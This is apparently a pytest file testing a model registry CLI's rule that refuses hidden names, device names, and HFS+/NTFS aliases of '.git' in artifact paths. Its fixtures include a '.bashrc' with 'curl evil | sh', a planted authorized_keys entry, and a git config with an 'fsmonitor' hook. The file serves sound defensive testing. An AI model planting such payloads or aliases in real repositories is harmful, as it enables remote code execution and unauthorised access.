"""The one artifact-name rule (layout.unsafe_path), against the real CLI: hidden names, device
names, Git's HFS+ and NTFS aliases of ``.git``, case collisions. Each finding is a named test
with a legitimate twin that must pass.

Findings: a pull request naming its artifacts ``.ssh`` (a folder holding authorized_keys) and
``.bashrc`` passed ``check`` (register refused them); ``.g\\u200cit`` (HFS+ ignores U+200C) and
``.git::$INDEX_ALLOCATION`` (NTFS) passed the path rule.
"""

from __future__ import annotations

import json
from typing import Any

import pytest
import yaml
from conftest import Reg
from gate_attacks import Sandbox, manifest_text, md5, pointer_text
from hypothesis import given, settings
from hypothesis import strategies as st

from modelreg.domain.layout import IGNORABLE_CODE_POINTS, case_collisions, unsafe_path

# --- the rule itself, on generated aliases -----------------------------------------------------

IGNORABLE = sorted(IGNORABLE_CODE_POINTS)
assert {0x200C, 0x200D, 0x200E, 0x200F, 0x202A, 0x202E, 0x206A, 0x206F, 0xFEFF} <= set(IGNORABLE)


@st.composite
def git_aliases(draw: st.DrawFn) -> str:
    """A name that is ``.git`` (or ``.dvc``, or a hidden name) on some file system: any case,
    HFS+-ignorable code points anywhere, trailing dots and spaces, an NTFS stream suffix, or
    the 8.3 short name."""
    kind = draw(st.sampled_from(["hfs", "ntfs-stream", "short", "trailing", "hidden"]))
    word = draw(st.sampled_from([".git", ".dvc", ".ssh", ".bashrc"]))
    cased = "".join(c.upper() if draw(st.booleans()) else c for c in word)
    if kind == "hfs":
        chars = list(cased)
        for _ in range(draw(st.integers(1, 3))):
            chars.insert(draw(st.integers(0, len(chars))), chr(draw(st.sampled_from(IGNORABLE))))
        return "".join(chars)
    if kind == "ntfs-stream":
        return cased + draw(st.sampled_from(["::$INDEX_ALLOCATION", ":$DATA", "::$DATA", ":x"]))
    if kind == "short":
        return cased.lstrip(".")[:6] + "~" + str(draw(st.integers(1, 9)))
    if kind == "trailing":
        return cased + draw(st.text(alphabet=". ", min_size=1, max_size=3))
    return cased + draw(st.text(alphabet="abc", max_size=3))


@st.composite
def device_names(draw: st.DrawFn) -> str:
    stem = draw(
        st.sampled_from(
            ["con", "prn", "aux", "nul", *(f"{p}{i}" for p in ("com", "lpt") for i in range(1, 10))]
        )
    )
    cased = "".join(c.upper() if draw(st.booleans()) else c for c in stem)
    return cased + draw(st.sampled_from(["", ".txt", ".bin", ".tar.gz", ".", " "]))


@settings(max_examples=300, deadline=None, derandomize=True)
@given(name=st.one_of(git_aliases(), device_names()), where=st.integers(0, 2))
def test_every_alias_of_a_hidden_or_device_name_is_refused_anywhere_in_a_path(name: str, where: int) -> None:
    """Invariant: no component of an accepted artifact path is, on any file system Git runs
    on, a hidden name or a device."""
    parts = ["weights", "sub"][:where]
    assert unsafe_path("/".join([*parts, name, "config"])) is not None, name
    assert unsafe_path("/".join([*parts, name])) is not None, name


@settings(max_examples=200, deadline=None, derandomize=True)
@given(
    parts=st.lists(
        st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789_-", min_size=1, max_size=12)
        .map(lambda s: s + ".bin")
        .filter(lambda s: s.split(".")[0] not in {"con", "prn", "aux", "nul"}),
        min_size=1,
        max_size=3,
    )
)
def test_twin_ordinary_artifact_paths_pass_the_rule(parts: list[str]) -> None:
    assert unsafe_path("/".join(parts)) is None


def test_names_that_one_file_system_holds_as_one_collide() -> None:
    assert case_collisions(["weights/A.bin", "weights/a.bin"]) == [("weights/a.bin", "weights/A.bin")]
    assert case_collisions(["caf\u00e9.bin", "cafe\u0301.bin"])  # NFC and NFD: one name on macOS
    assert case_collisions(["a.bin", "b.bin", "sub/a.bin"]) == []


# --- register: one line, nothing written ---------------------------------------------------------


@pytest.mark.parametrize(
    "inside",
    [".ssh/authorized_keys", ".bashrc", ".g\u200cit/config", "GIT~1/config", "CON.txt", "a:b", "x/.git/HEAD"],
)
def test_finding_13_register_refuses_a_folder_holding_a_hidden_or_alias_name(reg: Reg, inside: str) -> None:
    folder = reg.scratch / "weights"
    (folder / inside).parent.mkdir(parents=True, exist_ok=True)
    (folder / inside).write_bytes(b"x")
    (folder / "model.bin").write_bytes(b"weights")
    before = reg.state()
    result = reg.cli("register", "fraud", str(folder), "--version", "1.0.0", "--no-push")
    assert result.code == 1, result
    assert len(result.lines) == 1 and "artifact 'weights/" in result.err, result.err
    assert reg.state() == before


def test_finding_13_register_refuses_names_inside_a_folder_that_differ_by_case(reg: Reg) -> None:
    folder = reg.scratch / "weights"
    (folder / "sub").mkdir(parents=True)
    (folder / "sub" / "A.bin").write_bytes(b"a")
    (folder / "sub2").mkdir()
    (folder / "SUB").mkdir(exist_ok=True)
    (folder / "SUB" / "x.bin").write_bytes(b"x")
    before = reg.state()
    result = reg.cli("register", "fraud", str(folder), "--version", "1.0.0", "--no-push")
    assert result.code == 1 and "differ only by case" in result.err, result
    assert reg.state() == before


def test_twin_13_register_takes_a_folder_of_ordinary_names(reg: Reg) -> None:
    folder = reg.scratch / "weights"
    (folder / "sub").mkdir(parents=True)
    (folder / "sub" / "part-1.bin").write_bytes(b"a")
    (folder / "config.json").write_bytes(b"{}")
    result = reg.cli("register", "fraud", str(folder), "--version", "1.0.0", "--no-push")
    assert result.code == 0, result.err


# --- check: a pull request's own names ---------------------------------------------------------


def hand_version(
    sandbox: Sandbox, name: str, version: str, artifacts: dict[str, Any], *, pushed: bool
) -> None:
    """A new version whose artifacts have exactly the given names: bytes for a file, a dict
    (relpath -> bytes) for a folder artifact. Pointers, .gitignore and manifest as DVC and
    register write them."""
    vdir = sandbox.path / "models" / name / version
    vdir.mkdir(parents=True)
    entries, ignored = [], []
    for art, content in artifacts.items():
        if isinstance(content, dict):
            oid, size, nfiles = sandbox.store.folder(content, pushed=pushed)
            (vdir / f"{art}.dvc").write_text(pointer_text(art, oid, size, nfiles))
            entries.append(
                {"path": f"models/{name}/{version}/{art}", "md5": oid, "size": size, "nfiles": nfiles}
            )
        else:
            oid = sandbox.store.file(content, pushed=pushed)
            (vdir / f"{art}.dvc").write_text(pointer_text(art, oid, len(content)))
            entries.append({"path": f"models/{name}/{version}/{art}", "md5": oid, "size": len(content)})
        ignored.append(f"/{art}")
    (vdir / ".gitignore").write_text("".join(line + "\n" for line in ignored))
    (sandbox.path / "models" / name / f"{version}.yaml").write_text(manifest_text(name, version, entries))


def test_finding_2_check_refuses_a_version_naming_its_artifacts_ssh_and_bashrc(sandbox: Sandbox) -> None:
    sandbox.branch()
    hand_version(
        sandbox,
        "fraud",
        "3.0.0",
        {".ssh": {"authorized_keys": b"ssh-ed25519 AAAA mallory"}, ".bashrc": b"curl evil | sh\n"},
        pushed=True,
    )
    sandbox.commit("a version with dotfiles")
    checked = sandbox.check()
    assert not checked.accepted
    assert checked.has("unsafe-path", "models/fraud/3.0.0.yaml"), checked.explain()
    messages = [p["message"] for p in checked.problems if p["rule"] == "unsafe-path"]
    assert any(".ssh" in m for m in messages) and any(".bashrc" in m for m in messages), messages


@pytest.mark.parametrize("alias", [".g\u200cit", ".git::$INDEX_ALLOCATION", "git~1", "GIT~1", ".GIT."])
def test_finding_13_check_refuses_a_folder_listing_naming_a_git_alias(
    remote_sandbox: Sandbox, alias: str
) -> None:
    """The listing lives in the remote; check reads it when the base asks for remote checks."""
    remote_sandbox.branch()
    hand_version(
        remote_sandbox,
        "fraud",
        "3.0.0",
        {"weights": {f"{alias}/config": b"[core]\n\tfsmonitor = touch /tmp/pwned\n", "w.bin": b"w"}},
        pushed=True,
    )
    remote_sandbox.commit("a folder artifact with a .git alias")
    checked = remote_sandbox.check()
    assert not checked.accepted
    assert checked.has("unsafe-path", {"models/fraud/3.0.0.yaml", "models/fraud/3.0.0/weights.dvc"}), (
        checked.explain()
    )


@pytest.mark.parametrize("alias", [".g\u200cit", ".git::$INDEX_ALLOCATION", "GIT~1", "nul.bin", "a:b"])
def test_finding_13_check_refuses_an_artifact_named_as_an_alias(sandbox: Sandbox, alias: str) -> None:
    sandbox.branch()
    hand_version(sandbox, "fraud", "3.0.0", {alias: b"x"}, pushed=True)
    sandbox.commit("an artifact with an alias name")
    checked = sandbox.check()
    assert not checked.accepted
    assert checked.has("unsafe-path", "models/fraud/3.0.0.yaml") or checked.has(
        "path", {f"models/fraud/3.0.0/{alias}.dvc"}
    ), checked.explain()


def test_twin_2_check_accepts_a_version_with_ordinary_artifact_names(remote_sandbox: Sandbox) -> None:
    remote_sandbox.branch()
    hand_version(
        remote_sandbox,
        "fraud",
        "3.0.0",
        {"weights": {"sub/part-1.bin": b"a", "config.json": b"{}"}, "tokenizer.json": b"{}"},
        pushed=True,
    )
    remote_sandbox.commit("a version with ordinary names")
    checked = remote_sandbox.check()
    assert checked.accepted, checked.explain()


def test_finding_2_validate_refuses_what_check_refuses(sandbox: Sandbox) -> None:
    hand_version(sandbox, "fraud", "3.0.0", {".bashrc": b"x"}, pushed=True)
    sandbox.commit("a dotfile artifact")
    from gate_attacks import run_cli

    result = run_cli(sandbox.path, "validate", "--format", "json")
    assert result.exit_code == 1, result.output
    report = json.loads(result.stdout)
    assert any(p["rule"] == "unsafe-path" and ".bashrc" in p["message"] for p in report["problems"])


def test_the_hand_made_pointer_is_dvcs(sandbox: Sandbox) -> None:
    """The hand-made pointers read as DVC writes them, so refusals are about the names."""
    hand_version(sandbox, "fraud", "3.0.0", {"model.bin": b"x"}, pushed=True)
    doc = yaml.safe_load((sandbox.path / "models/fraud/3.0.0/model.bin.dvc").read_text())
    assert doc["outs"][0]["md5"] == md5(b"x")
    assert (sandbox.path / "models/fraud/3.0.0/.gitignore").read_text() == "/model.bin\n"
